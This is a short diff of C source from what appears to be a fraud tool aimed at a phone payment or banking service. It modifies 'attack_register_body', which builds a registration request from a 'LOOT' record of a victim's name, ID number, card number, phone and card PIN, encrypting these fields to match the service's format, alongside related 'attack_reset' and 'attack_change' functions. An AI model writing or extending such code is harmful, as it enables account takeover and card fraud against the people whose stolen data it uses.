@@ -214,14 +214,15 @@ void attack_reset_body(phone *p, const char *user, const char *pay_password, cha
 
 void attack_register_body(phone *p, const char *card_pin, char *out, size_t size)
 {
-    char secret[700], device[500], captcha[120];
+    char text[80], numbers[700], secret[700], device[500], captcha[120];
+    snprintf(text, sizeof text, "%s %s %s", LOOT.he_id_no, LOOT.he_card, LOOT.he_phone);
     attack_captcha(p, captcha);
+    phone_secret(p, text, 6, numbers, sizeof numbers);
     phone_secret(p, card_pin, 4, secret, sizeof secret);
     phone_device(p, device, sizeof device);
     snprintf(out, size,
-             "{\"privacy_version\":\"1\",\"name\":\"%s\",\"id_no\":\"%s\",\"card_no\":\"%s\",\"phone\":\"%s\",\"card_pin\":%s,"
-             "\"captcha\":%s,\"device\":%s}",
-             LOOT.he_name, LOOT.he_id_no, LOOT.he_card, LOOT.he_phone, secret, captcha, device);
+             "{\"privacy_version\":\"1\",\"name\":\"%s\",\"numbers\":%s,\"card_pin\":%s,\"captcha\":%s,\"device\":%s}", LOOT.he_name,
+             numbers, secret, captcha, device);
 }
 
 void attack_change_body(phone *p, const char *kind, const char *old, const char *fresh, char *out, size_t size)
